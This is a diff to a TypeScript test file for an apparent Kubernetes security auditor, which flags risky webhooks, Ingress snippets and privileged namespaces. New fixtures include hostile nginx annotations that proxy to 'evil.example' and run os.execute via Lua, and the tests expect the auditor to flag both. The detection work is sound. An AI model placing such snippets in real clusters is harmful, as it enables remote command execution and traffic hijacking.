@@ -34,7 +34,8 @@ describe('admission', () => {
     ['on the same machine', { url: 'https://127.0.0.1:9443/x' }, '·'],
     ['a Service by its name', { url: 'https://x.shop.svc:443/x' }, '·'],
     ['a Service', { service: { namespace: 'mesh', name: 'x' } }, '·'],
-    ['a Service where none is expected', { service: { namespace: 'default', name: 'x' } }, '!'],
+    ['a Service beside nothing else', { service: { namespace: 'default', name: 'x' } }, '·'],
+    ['a Service where nothing is', { service: { namespace: 'kube-public', name: 'x' } }, '!'],
   ])('a webhook %s', (_name, clientConfig, sign) => {
     expect(signs(askedOf('admission', webhook(clientConfig)))).toEqual([sign]);
   });
@@ -107,15 +108,19 @@ describe('the network', () => {
   ])('a Service: %s', (_name, spec, expected) => {
     expect(signs(askedOf('network', stored('Service', 'shop/x', { spec })))).toEqual(expected);
   });
-  test('an Ingress with configuration of its own', () => {
-    const annotations = { 'nginx.ingress.kubernetes.io/configuration-snippet': 'secret-text' };
+  test.each([
+    ['more_set_headers "X: y";', '·'],
+    ['location /x { proxy_pass http://evil.example; }', '!'],
+    ['content_by_lua_block { os.execute("id") }', '!'],
+  ])('an Ingress with configuration of its own: %s', (text, sign) => {
+    const annotations = { 'nginx.ingress.kubernetes.io/configuration-snippet': text };
     const spec = { rules: [{ host: 'x.example' }] };
     const lines = askedOf(
       'network',
       stored('Ingress', 'shop/x', { metadata: { annotations }, spec }),
     );
     expect(lines).toEqual([
-      '! Ingress shop/x: offered outside as x.example, with configuration of its own (nginx.ingress.kubernetes.io/configuration-snippet)',
+      `${sign} Ingress shop/x: offered outside as x.example, with configuration of its own (nginx.ingress.kubernetes.io/configuration-snippet)`,
     ]);
   });
   test('endpoints that no controller wrote', () => {
@@ -154,11 +159,26 @@ describe('namespaces', () => {
   const privileged = withTemplate(podSpec({ securityContext: { privileged: true } }));
   test('levels', () => {
     expect(askedOf('namespaces', level('restricted'))).toEqual([]);
-    expect(signs(askedOf('namespaces', level('privileged')))).toEqual(['!']);
+    expect(signs(askedOf('namespaces', level('privileged')))).toEqual(['·']);
+    const pod = stored('Pod', 'shop/y', { spec: podSpec() });
+    expect(signs(askedOf('namespaces', level('privileged'), pod))).toEqual(['!']);
     const agent = stored('DaemonSet', 'shop/x', privileged);
     expect(signs(askedOf('namespaces', level('privileged'), agent))).toEqual(['·']);
     expect(askedOf('namespaces', level('Restricted'))).toEqual([
       '! Namespace shop: pod security Restricted is no level: it forbids nothing',
+    ]);
+  });
+  test('a level that was set later by somebody else', () => {
+    const labels = { 'pod-security.kubernetes.io/enforce': 'privileged' };
+    const of = (name: string) => ({ 'f:metadata': { 'f:labels': { [`f:${name}`]: {} } } });
+    const managedFields = [
+      { manager: 'helm', fieldsV1: of('kubernetes.io/metadata.name') },
+      { manager: 'curl', fieldsV1: of('pod-security.kubernetes.io/enforce') },
+    ];
+    expect(
+      askedOf('namespaces', stored('Namespace', 'shop', { metadata: { labels, managedFields } })),
+    ).toEqual([
+      '! Namespace shop: pod security is privileged: pods may own their node; no pod in it needs that; set by curl',
     ]);
   });
   test.each([
